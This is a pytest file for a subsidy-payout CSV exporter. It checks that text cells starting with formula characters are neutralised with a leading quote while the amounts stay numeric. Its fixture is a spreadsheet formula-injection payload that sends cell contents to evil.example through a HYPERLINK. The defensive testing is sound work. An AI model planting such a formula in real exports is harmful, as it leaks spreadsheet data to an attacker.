"""Issue 17, item 2: the finance CSV (subsidy export-tranches) is opened in
a spreadsheet. A text cell starting with a formula character (an
application id ``=HYPERLINK(...)`` stored before the identifier grammar, a
payment id from finance) is neutralised the OWASP way — a leading single
quote — while the amounts and numbers stay numeric."""

from __future__ import annotations

import csv
import io

import pytest

from subsidy.services.payout.adapters import export
from subsidy.services.payout.model import TrancheRow

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _row(**kw):
    fields = dict(
        tranche_id=f"{EVIL}/tranche-0",
        application_id=EVIL,
        credit_code="91310117313Q6C3D6G",
        clause="2",
        number=0,
        amount_fen=118518518,
        due_on="2026-01-15",
        budget_year=2026,
        status="SCHEDULED",
        paid_on="",
        payment_id="",
    )
    fields.update(kw)
    return TrancheRow(**fields)


def _cells(row):
    out = io.StringIO()
    export.write_csv([row], out)
    [header, line] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    return dict(zip(header, line, strict=True))


def test_a_formula_application_id_is_written_as_text_and_the_amounts_stay_numbers():
    cells = _cells(_row())
    assert cells["application_id"] == "'" + EVIL
    assert cells["tranche_id"] == "'" + EVIL + "/tranche-0"
    assert (cells["amount_fen"], cells["amount_yuan"], cells["number"], cells["budget_year"]) == (
        "118518518",
        "1185185.18",
        "0",
        "2026",
    )
    assert cells["credit_code"] == "91310117313Q6C3D6G" and cells["due_on"] == "2026-01-15"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_every_formula_prefix_is_neutralised_in_every_text_cell(prefix):
    value = f"{prefix}1+1"
    row = _row(
        tranche_id=value,
        application_id=value,
        credit_code=value,
        clause=value,
        due_on=value,
        status=value,
        paid_on=value,
        payment_id=value,
    )
    cells = _cells(row)
    for column in (
        "tranche_id",
        "application_id",
        "credit_code",
        "clause",
        "due_on",
        "status",
        "paid_on",
        "payment_id",
    ):
        assert cells[column] == "'" + value, column


def test_ordinary_values_are_unchanged():
    row = _row(tranche_id="SJ-2025-0001/tranche-0", application_id="SJ-2025-0001", payment_id="FZ-2026-0001")
    cells = _cells(row)
    assert (cells["tranche_id"], cells["application_id"], cells["payment_id"]) == (
        "SJ-2025-0001/tranche-0",
        "SJ-2025-0001",
        "FZ-2026-0001",
    )
